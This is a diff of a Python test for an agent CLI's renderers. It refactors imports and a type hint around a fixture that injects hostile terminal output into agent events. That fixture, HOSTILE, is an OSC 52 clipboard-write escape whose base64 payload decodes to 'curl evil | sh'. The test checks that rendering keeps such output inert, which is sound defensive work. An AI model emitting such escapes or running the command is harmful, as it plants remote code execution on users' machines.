@@ -15,7 +15,9 @@ from yoagent.cli.render import PlainRenderer, Renderer
 from yoagent.cli.rich_render import RichRenderer
 from yoagent.cli.safe_text import has_hidden, inert
 from yoagent.core import (
+    AgentEvent,
     AssistantMessage,
+    ErrorKind,
     MessageEnd,
     MessageUpdate,
     ProgressMessage,
@@ -29,8 +31,6 @@ from yoagent.core import (
     ToolExecutionStart,
     ToolResultMessage,
 )
-from yoagent.core.errors import ErrorKind
-from yoagent.core.events import AnyEvent
 
 HOSTILE = (
     "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # OSC 52: write the clipboard
@@ -57,7 +57,7 @@ def _acted_on(output: str) -> list[str]:
     return never + _FORBIDDEN.findall(_OWN_CONTROLS.sub("", output))
 
 
-def hostile_events() -> list[AnyEvent]:
+def hostile_events() -> list[AgentEvent]:
     error = AssistantMessage(stop_reason=StopReason.ERROR, error_message=f"server said {HOSTILE}")
     return [
         MessageUpdate(delta=ThinkingDelta(content_index=0, delta=f"thinking {HOSTILE}")),
